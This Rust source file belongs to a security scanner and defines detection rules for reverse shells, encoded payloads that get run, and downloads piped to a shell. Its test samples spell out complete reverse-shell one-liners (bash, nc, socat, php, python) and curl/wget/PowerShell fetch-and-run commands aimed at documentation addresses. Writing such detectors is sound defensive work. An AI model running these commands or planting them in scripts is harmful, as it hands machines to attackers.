//! Command lines in scripts, workflows, images and texts.

use std::ops::Range;

use memchr::{memchr, memrchr};

use super::Found;
use super::command::{Danger, judge};
use super::file::{File, Language};
use super::report::{Findings, escape};
use super::rule::{Level, Rule};

pub(super) static REVERSE_SHELL: Rule = Rule {
    id: "reverse_shell",
    title: "reverse shell",
    level: Level::Certain,
    summary: "a command gives a shell to another machine",
    explain: "The line connects a shell's input and output to a network address. Only whole idioms count, in files that are run: a socket alone (to wait for a port, say) does not.",
    next_step: "Remove the line, and treat machines that ran it as taken over.",
    samples: &[
        &[("run.sh", "bash -i >& /dev/{}tcp/198.51.100.7/4444 0>&1")],
        &[("run.sh", "nc{} -e /bin/sh 198.51.100.7 4444")],
        &[(
            "a.sh",
            "socat TCP:198.51.100.7:443 EXEC:{}'bash -li',pty,stderr",
        )],
        &[(
            "a.sh",
            "php -r '$s={}fsockopen(\"198.51.100.7\",443);exec(\"/bin/sh -i <&3 >&3\");'",
        )],
        &[(
            "Dockerfile",
            "RUN rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | {}nc 198.51.100.7 4444 >/tmp/f",
        )],
        &[(
            "x.sh",
            "python3 -c 'import {}socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        )],
    ],
    decoys: &[
        &[(
            "wait.sh",
            "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done",
        )],
        &[("run.sh", "nc -z localhost 80 && nc -l -p 80 < page.html")],
        &[(
            "README.md",
            "    bash -i >& /dev/{}tcp/198.51.100.7/4444 0>&1",
        )],
        &[("run.sh", "# bash -i >& /dev/{}tcp/198.51.100.7/4444 0>&1")],
    ],
};

pub(super) static DECODED_PAYLOAD_RUN: Rule = Rule {
    id: "decoded_payload_run",
    title: "encoded payload that is run",
    level: Level::Certain,
    summary: "a command decodes a payload and runs it unseen",
    explain: "Base64, hexadecimal digits or a cipher hide what is run from whoever reads the line. Counted where the payload stands in the line or is downloaded; not where it is a variable's value.",
    next_step: "Write the commands in the clear, or remove them.",
    samples: &[
        &[("run.sh", "echo {b64:40} | {}base64 -d | sh")],
        &[("run.sh", "eval \"$(echo {hex:40} | {}xxd -r -p)\"")],
        &[("run.ps1", "powershell -NoP -{}enc {b64:60}")],
        &[(
            ".github/workflows/a.yml",
            "    - run: curl -s https://x.example.org/p | {}base64 --decode | sudo bash",
        )],
    ],
    decoys: &[
        &[("run.sh", "echo {b64:40} | base64 -d > key.pem")],
        &[("run.sh", "echo \"$SCRIPT\" | base64 -d | bash")],
        &[("run.ps1", "powershell -enc $encoded")],
        &[("README.md", "echo {b64:40} | base64 -d | sh")],
    ],
};

pub(super) static SUSPECT_DOWNLOAD_RUN: Rule = Rule {
    id: "suspect_download_run",
    title: "download that is run, from a host that names nobody",
    level: Level::Certain,
    summary: "a command runs what it downloads from a bare address, a paste site, a shortener or a tunnel",
    explain: "Software has a publisher; a public address in digits, a paste site, a link shortener or a tunnel has none, and what it serves changes between two looks.",
    next_step: "Download from the publisher and check a digest, or remove the line.",
    samples: &[
        &[("run.sh", "curl -fsSL http://198.18.0.1/x.sh | {}sh")],
        &[(
            "Dockerfile",
            "RUN wget -qO- https://paste{}bin.com/raw/abc | bash -s -- -y",
        )],
        &[("run.sh", "bash <(curl -s https://x.ngrok.{}io/x)")],
        &[(
            "run.sh",
            "curl -o /tmp/x http://198.18.0.1/x && chmod +x /tmp/x && {}/tmp/x",
        )],
        &[(
            "a.ps1",
            "{}iex (New-Object Net.WebClient).DownloadString('http://198.18.0.1/a')",
        )],
    ],
    decoys: &[
        &[("run.sh", "curl -fsSL http://127.0.0.1:8080/x.sh | sh")],
        &[("run.sh", "curl -fsSL http://198.18.0.1/x.sh | tee x.sh")],
        &[("run.sh", "curl -fsSL https://sh.example.org | sh")],
    ],
};

pub(super) static DOWNLOAD_RUN: Rule = Rule {
    id: "download_run",
    title: "download that is run",
    level: Level::Heuristic,
    summary: "a command runs what it downloads or decodes, unseen and unchecked",
    explain: "Honest installers do so; whoever controls the host then runs commands here. Comments, quoted text and documentation are left alone.",
    next_step: "Download to a file and check its digest before it runs, or pin a package.",
    samples: &[
        &[("run.sh", "curl -fsSL https://sh.example.org | sh")],
        &[("run.sh", "sh -c \"$(curl -fsSL https://sh.example.org)\"")],
        &[(
            ".github/workflows/a.yml",
            "  - run: |\n      curl https://sh.example.org \\\n        | python3 -\n",
        )],
        &[("a.ps1", "iwr https://sh.example.org/a.ps1 | iex")],
    ],
    decoys: &[
        &[("run.sh", "# curl -fsSL https://sh.example.org | sh")],
        &[("run.sh", "echo 'curl -fsSL https://sh.example.org | sh'")],
        &[(
            "run.sh",
            "curl -s https://api.example.org | python3 -m json.tool",
        )],
        &[(
            "run.sh",
            "curl -s https://api.example.org | python3 -c 'import sys'",
        )],
        &[("run.sh", "curl -o x.sh https://sh.example.org | sh")],
        &[("README.md", "curl -fsSL https://sh.example.org | sh")],
    ],
};

pub(super) static SHELL_ATTACK_IN_TEXT: Rule = Rule {
    id: "shell_attack_in_text",
    title: "attack in a text",
    level: Level::Heuristic,
    summary: "a text or specimen shows a command that attacks whoever runs it",
    explain: "A reverse shell, a payload that is decoded and run, or a download from a nameless host, in documentation or among test data. Texts about security have them, too.",
    next_step: "If readers are meant to run it, remove it.",
    samples: &[
        &[(
            "README.md",
            "    bash -i >& /dev/{}tcp/198.18.0.1/4444 0>&1",
        )],
        &[("docs/a.txt", "$ curl http://198.18.0.1/x.sh | {}sh")],
    ],
    decoys: &[&[("README.md", "curl -fsSL https://sh.example.org | sh")]],
};

/// Longest command line, in bytes before and after its literal.
const WINDOW: usize = 4 * 1024;
/// Lines joined to one command.
const MAX_LINES: usize = 16;

/// Whether commands are looked for.
pub(super) fn concerns(file: &File<'_>) -> bool {
    is_run(file) || matches!(file.language, Language::Markdown | Language::Prose)
}

fn is_run(file: &File<'_>) -> bool {
    use Language::{Batch, Docker, Make, PowerShell, Shell};
    matches!(file.language, Shell | PowerShell | Batch | Docker | Make)
        || file.is_workflow()
        || file.name() == "jenkinsfile"
}

/// Looks at the command around a literal; `done` is where the last one ended.
pub(super) fn at(
    file: &File<'_>,
    text: &[u8],
    offset: usize,
    done: &mut usize,
    found: &mut Findings,
) {
    if offset < *done {
        return;
    }
    let range = command(text, offset, *done);
    *done = range.end;
    let line = String::from_utf8_lossy(text.get(range.clone()).unwrap_or_default());
    let line = line
        .replace("\\\r\n", " ")
        .replace("\\\n", " ")
        .replace("`\n", " ");
    if is_comment(file, &line) {
        return;
    }
    let yaml = file.language == Language::Yaml;
    let line = if yaml { scalar(&line) } else { &line };
    let Some(danger) = judge(line) else { return };
    let runs = is_run(file) && !file.is_specimen();
    let Some((rule, what)) = rule_of(danger, runs) else {
        return;
    };
    let start = range.start
        + text[range.clone()]
            .iter()
            .take_while(|byte| byte.is_ascii_whitespace())
            .count();
    found.push(Found {
        rule,
        range: start..range.end.max(start),
        message: format!("{what}: {}", escape(line.trim())),
        hidden: None,
    });
}

/// A value of YAML without its key, list mark and quotes.
fn scalar(line: &str) -> &str {
    let line = line.trim().trim_start_matches("- ").trim_start();
    let value = line.split_once(": ").filter(|(key, _)| {
        key.bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"_-".contains(&byte))
    });
    let value = value.map_or(line, |(_, value)| value.trim());
    let inside = |quote| value.strip_prefix(quote)?.strip_suffix(quote);
    inside('"').or_else(|| inside('\'')).unwrap_or(value)
}

/// What running a command of that kind is called.
pub(super) const fn what(danger: Danger) -> &'static str {
    match danger {
        Danger::ReverseShell => "gives a shell to another machine",
        Danger::Decoded => "decodes a payload and runs it",
        Danger::NamelessDownload => "runs what it downloads from a host that names nobody",
        Danger::Download => "runs what it downloads",
        Danger::DecodedUnknown => "runs what it decodes",
    }
}

fn rule_of(danger: Danger, runs: bool) -> Option<(&'static Rule, &'static str)> {
    let rule = match danger {
        Danger::ReverseShell if runs => &REVERSE_SHELL,
        Danger::Decoded if runs => &DECODED_PAYLOAD_RUN,
        Danger::NamelessDownload if runs => &SUSPECT_DOWNLOAD_RUN,
        Danger::ReverseShell | Danger::Decoded | Danger::NamelessDownload => &SHELL_ATTACK_IN_TEXT,
        Danger::Download | Danger::DecodedUnknown if runs => &DOWNLOAD_RUN,
        Danger::Download | Danger::DecodedUnknown => return None,
    };
    Some((rule, what(danger)))
}

/// The line of `offset` and those that it is continued on.
fn command(text: &[u8], offset: usize, least: usize) -> Range<usize> {
    let floor = least.max(offset.saturating_sub(WINDOW));
    let ceiling = text.len().min(offset + WINDOW);
    let mut start = line_start(text, offset, floor);
    for _ in 0..MAX_LINES {
        if start == floor || !goes_on(&text[floor..start - 1]) {
            break;
        }
        start = line_start(text, start - 1, floor);
    }
    let mut end = line_end(text, offset, ceiling);
    for _ in 0..MAX_LINES {
        let next = line_end(text, (end + 1).min(ceiling), ceiling);
        let leads = text[(end + 1).min(next)..next]
            .trim_ascii_start()
            .starts_with(b"|");
        if end >= ceiling || !(goes_on(&text[start..end]) || leads) {
            break;
        }
        end = next;
    }
    start..end
}

fn line_start(text: &[u8], at: usize, floor: usize) -> usize {
    memrchr(b'\n', &text[floor..at]).map_or(floor, |newline| floor + newline + 1)
}

fn line_end(text: &[u8], at: usize, ceiling: usize) -> usize {
    memchr(b'\n', &text[at..ceiling]).map_or(ceiling, |length| at + length)
}

fn goes_on(line: &[u8]) -> bool {
    let line = line.trim_ascii_end();
    // `key: |` begins a block of YAML.
    let pipe = line.ends_with(b"|") && !line.ends_with(b": |") && !line.ends_with(b"- |");
    line.ends_with(b"\\") || pipe || line.ends_with(b"&&")
}

fn is_comment(file: &File<'_>, line: &str) -> bool {
    if !is_run(file) {
        return false;
    }
    let line = line.trim_start().to_ascii_lowercase();
    let batch = file.language == Language::Batch;
    line.starts_with('#')
        || line.starts_with("//")
        || batch && (line.starts_with("rem ") || line.starts_with("::"))
}
